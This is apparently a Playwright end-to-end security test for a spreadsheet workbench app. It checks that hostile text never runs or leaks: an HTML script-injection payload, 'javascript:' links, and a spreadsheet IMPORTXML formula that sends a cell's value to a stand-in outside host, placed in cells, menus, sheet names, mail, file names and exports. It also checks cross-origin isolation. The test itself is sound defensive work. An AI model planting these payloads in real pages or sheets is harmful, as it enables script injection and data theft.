import type { Browser, Locator } from 'playwright-core';
import { startBrowser } from './browser';
import { type Elsewhere, openElsewhere } from './elsewhere';
import { choose, openProbe, serveProbe, type ServedProbe } from './probe';
import type { WorkbenchOnScreen } from './workbench-on-screen';

jest.setTimeout(60_000);

/** As in the script of the tests. */
const HOSTILE = '<img src=x onerror="top.broken=1;window.broken=1"><script>window.broken=1</script>';
/** Names of sheets are shorter. */
const SHEET = HOSTILE.slice(0, 60);
const LINK = 'javascript:top.broken=1';
const IMPORT = '=IMPORTXML("http://elsewhere.invalid/?"&F2,"//a")';

const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
/** A lead's name in column F, a figure for the chart in G, and what else may stand in cells. */
const TABLE = [
  `,,,,,${quoted(HOSTILE)},Number,Text`,
  `,,,,,${quoted(HOSTILE)},1,${LINK}`,
  `,,,,,Zoë,2,${quoted(IMPORT)}`,
].join('\n');

let browser: Browser;
let served: ServedProbe;
let workbench: WorkbenchOnScreen;
const opened: string[] = [];

beforeAll(async () => {
  [browser, served] = await Promise.all([startBrowser(), serveProbe({ name: 'Hostile', table: TABLE })]);
  workbench = await openProbe(browser, served);
  workbench.page.on('dialog', (dialog) => {
    opened.push(dialog.message());
    void dialog.dismiss();
  });
  workbench.page.on('popup', (popup) => opened.push(popup.url()));
  await choose(workbench, 'Begin');
  await workbench.answerConsent(true);
  await workbench.waitIdle();
});

afterAll(async () => {
  try {
    await workbench?.close();
  } finally {
    await Promise.all([browser?.close(), served?.close()]);
  }
});

/** Whatever a text has managed to do; elements that it made would be there even where the policy kept them from running. */
const done = (): Promise<unknown> =>
  workbench.page.evaluate(() => ({
    broken: Reflect.get(window, 'broken') as unknown,
    images: document.querySelectorAll('img[src="x"], img[onerror]').length,
    scripts: [...document.scripts].filter(({ text }) => text.includes('broken')).length,
    links: document.querySelectorAll('a[href^="javascript:" i]').length,
  }));

const NOTHING = { broken: undefined, images: 0, scripts: 0, links: 0 };

afterEach(async () => {
  expect(await done()).toEqual(NOTHING);
  expect(opened).toEqual([]);
});

const textOf = async (place: Locator): Promise<string> => (await place.innerText()).trim();

/** The steps follow one another in one window. */
describe('a text that would be a page is a text', () => {
  it('in cells, also where it would be a formula or a link', async () => {
    const shown = await workbench.grid.cellTexts('F1:H3');
    expect(shown).toEqual([
      [HOSTILE, 'Number', 'Text'],
      [HOSTILE, '1', LINK],
      ['Zoë', '2', IMPORT],
    ]);
    await workbench.page.mouse.click(600, 190);
  });

  it('in a formula that is typed, which fetches nothing', async () => {
    await workbench.grid.typeInto('H5', IMPORT);
    const shown = await workbench.grid.cellTextOnce('H5', (text) => text.startsWith('#'));
    expect(shown).toMatch(/^#(?:NAME\?|ERROR!|N\/A)/);
    await workbench.grid.typeInto('H6', '=HYPERLINK("javascript:top.broken=1","click")');
    await workbench.grid.cellTextOnce('H6', (text) => text !== '');
    await workbench.grid.selectCell('H6');
    await workbench.closeToasts();
  });

  it('in menus, messages and questions', async () => {
    await workbench.clickMenu([HOSTILE, HOSTILE]);
    expect(await workbench.questionText()).toContain(HOSTILE);
    expect(await textOf(workbench.question.getByRole('heading'))).toBe(HOSTILE);
    await workbench.answerDialog('OK');
    const failed = workbench.page.locator('.toast.failed .toast-text');
    await failed.waitFor();
    expect(await textOf(failed)).toContain(`Error: ${HOSTILE}`);
    expect(await textOf(failed)).toContain(`Error in “${HOSTILE}”`);
    const [told] = await workbench.toastTexts();
    expect(told).toBe(`${HOSTILE}\n${HOSTILE}`);
    await workbench.closeToasts();
    await workbench.waitIdle();
  });

  it('in names of sheets, notes, choices and charts', async () => {
    const { grid, page } = workbench;
    expect(await grid.sheetOnce(SHEET)).toBe(true);
    const charts = await grid.chartsOnce((texts) => texts.length > 0);
    expect(charts.join()).toContain(HOSTILE);
    await grid.selectCell('A2');
    await page.mouse.move(80, 190);
    await page.waitForTimeout(600);
    await grid.selectCell('A3');
    await page.keyboard.press('Alt+ArrowDown');
    await page.getByRole('option').first().waitFor();
    expect((await page.getByRole('option').allInnerTexts()).map((text) => text.trim())).toContain(HOSTILE);
    await page.keyboard.press('Escape');
  });

  it('in the outbox', async () => {
    const panel = await workbench.openPanel('outbox');
    expect(await panel.locator('.card strong').innerText()).toBe(HOSTILE);
    await panel.locator('.card').click();
    expect(await textOf(panel.getByRole('heading', { level: 3 }))).toBe(HOSTILE);
    // The formatted mail may look as it wants, and can do nothing: its links and forms lead nowhere.
    const mail = panel.frameLocator('iframe');
    expect(await panel.locator('iframe').getAttribute('sandbox')).toBe('');
    await mail.getByText('script', { exact: true }).click();
    await mail.getByRole('button', { name: 'send' }).click();
    await workbench.page.waitForTimeout(300);
    await panel.getByRole('button', { name: workbench.words.outbox.asText, exact: true }).click();
    expect(await panel.locator('pre').innerText()).toBe(HOSTILE);
    const file = await workbench.downloadBy(() =>
      panel.getByRole('button', { name: workbench.words.outbox.download }).click(),
    );
    expect(file.name).toBe(
      'img src=x onerror= top.broken=1;window.broken=1 script window.broken=1 script.eml',
    );
    workbench.expectComplaints(/elsewhere\.invalid|sandboxed|about:srcdoc/);
  });

  it('in the calendar', async () => {
    const panel = await workbench.openPanel('calendar');
    await panel.locator('.card').click();
    expect(await textOf(panel.getByRole('heading', { level: 3 }))).toBe(HOSTILE);
    expect(await panel.locator('.details').innerText()).toContain(HOSTILE);
  });

  it('in the log and in the name of the document, of its files and of who sits before it', async () => {
    const log = await workbench.openPanel('executions');
    expect(await log.innerText()).toContain(`Error: ${HOSTILE}`);
    const name = workbench.page.getByRole('textbox', { name: workbench.words.page.documentName });
    await name.fill(HOSTILE);
    await name.press('Enter');
    await workbench.page.waitForFunction((title) => document.title === title, HOSTILE);
    const xlsx = await workbench.download('xlsx');
    expect(xlsx.name).toMatch(/^img src=x onerror=.*script\.xlsx$/);
    const csv = await workbench.download('csv');
    // What a spreadsheet would start as a formula is kept from it, and read back here as it was.
    expect(csv.bytes.toString('utf8')).toContain(`"'${IMPORT.replaceAll('"', '""')}"`);
    const panel = await workbench.openPanel('person');
    const { person } = workbench.words;
    await panel.getByLabel(person.who, { exact: true }).selectOption({ label: person.other });
    await panel.getByLabel(person.name, { exact: true }).fill(HOSTILE);
    await panel.getByLabel(person.email, { exact: true }).fill('x@example.com');
    await panel.getByRole('button', { name: person.apply, exact: true }).click();
    await workbench.page.locator('.person-name', { hasText: '<img' }).waitFor();
    await workbench.waitReady();
  });
});

describe('a page of another site', () => {
  let elsewhere: Elsewhere;
  beforeAll(async () => (elsewhere = await openElsewhere('<title>Elsewhere</title>')));
  afterAll(() => elsewhere?.close());

  it('can neither read, connect to nor frame the workbench, even where it knows its key', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(elsewhere.origin);
    const outcomes = await page.evaluate(async (address) => {
      const { origin, hash } = new URL(address);
      const connects = (protocols: string[]): Promise<string> =>
        new Promise((resolve) => {
          const socket = new WebSocket(`${origin.replace('http', 'ws')}/socket`, protocols);
          socket.onopen = () => resolve('connected');
          socket.onerror = () => resolve('refused');
        });
      const frame = document.createElement('iframe');
      frame.src = address;
      const framed = new Promise((resolve) => {
        frame.onload = () => resolve(frame.contentDocument === null ? 'refused' : 'own');
      });
      document.body.append(frame);
      const script = document.createElement('script');
      const loaded = new Promise((resolve) => {
        script.onload = () => resolve('loaded');
        script.onerror = () => resolve('refused');
      });
      script.src = `${origin}/page.js`;
      document.body.append(script);
      return Promise.all([
        fetch(origin).then(
          () => 'read',
          () => 'refused',
        ),
        connects(['duo-workbench', hash.slice('#key='.length)]),
        connects([]),
        loaded,
        framed,
      ]);
    }, served.url);
    expect(outcomes).toEqual(['refused', 'refused', 'refused', 'refused', 'refused']);
    // What stands in the frame is the browser's own page that says so.
    const inner = page.frames().find((frame) => frame !== page.mainFrame())!;
    expect(inner.url()).toMatch(/^chrome-error:/);
    await context.close();
  });

  it('that opens the workbench has no hold of its window', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(elsewhere.origin);
    const [popup] = await Promise.all([
      page.waitForEvent('popup'),
      page.evaluate((address) => {
        Reflect.set(window, 'held', window.open(address));
      }, served.url),
    ]);
    await popup.getByRole('menubar').waitFor();
    expect(await popup.evaluate(() => window.opener === null)).toBe(true);
    expect(await page.evaluate(() => (Reflect.get(window, 'held') as Window).closed)).toBe(true);
    await context.close();
  });
});
